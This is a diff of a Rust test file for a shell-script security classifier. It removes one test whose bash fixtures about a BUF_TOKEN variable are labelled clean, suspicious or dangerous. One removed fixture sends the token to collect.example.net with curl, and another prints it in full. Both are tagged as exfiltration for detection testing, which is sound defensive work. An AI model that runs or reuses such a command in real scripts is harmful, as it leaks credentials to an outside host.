@@ -46,63 +46,6 @@ fn check_rows(rows: &[(&str, bool, Verdict, &str)]) {
     crate::judged_shell_rows(rows, &ForcedRemovals);
 }
 
-/// A token variable only checked (set or not, its last characters shown) before the script
-/// runs its own service's CLI, which takes it from the environment it inherits: the CLI's
-/// use, as it is for a program started from an argument list in Python or JavaScript. Shown
-/// whole, sent to another host, or read with no client of its service run, it stays flagged.
-#[test]
-fn a_token_checked_before_its_own_cli_runs_is_that_clis() {
-    let rows: &[(&str, bool, Verdict, &str)] = &[
-        (
-            "#!/usr/bin/env bash\nset -euo pipefail\n\
-             mask() { local v=\"$1\"; printf '...%s' \"${v: -4}\"; }\n\
-             [[ -n \"${BUF_TOKEN:-}\" ]] || { echo 'BUF_TOKEN missing' >&2; exit 1; }\n\
-             echo \"pushing with BUF_TOKEN $(mask \"$BUF_TOKEN\")\"\n\
-             buf push proto --label main\n",
-            false,
-            Clean,
-            "",
-        ),
-        (
-            "#!/usr/bin/env bash\nset -euo pipefail\n\
-             echo \"token ends in ${BUF_TOKEN: -4}\"\nbuf push proto\n",
-            false,
-            Clean,
-            "",
-        ),
-        // Twins: no client of the token's service runs; another service's CLI runs; the
-        // token printed whole; the token sent to a host nobody knows.
-        (
-            "#!/usr/bin/env bash\nset -euo pipefail\n\
-             echo \"token ends in ${BUF_TOKEN: -4}\"\nprotoc --version\n",
-            false,
-            Suspicious,
-            "secret-read",
-        ),
-        (
-            "#!/usr/bin/env bash\nset -euo pipefail\n\
-             echo \"token ends in ${BUF_TOKEN: -4}\"\nnpm publish --dry-run\n",
-            false,
-            Suspicious,
-            "secret-read",
-        ),
-        (
-            "#!/usr/bin/env bash\nset -euo pipefail\necho \"token: $BUF_TOKEN\"\nbuf push proto\n",
-            false,
-            Dangerous,
-            "exfiltration",
-        ),
-        (
-            "#!/usr/bin/env bash\nset -euo pipefail\nbuf push proto\n\
-             curl -fsS -H \"Authorization: Bearer $BUF_TOKEN\" https://collect.example.net/t\n",
-            false,
-            Dangerous,
-            "exfiltration",
-        ),
-    ];
-    check_rows(rows);
-}
-
 /// `git worktree remove --force "$wt" || rm -rf -- "$wt"` in a cleanup trap, of the worktree
 /// the script added: the removal falls back to deleting the same path by hand, so the line
 /// tears down what the script brought up. Another worktree, another path in the fallback, or
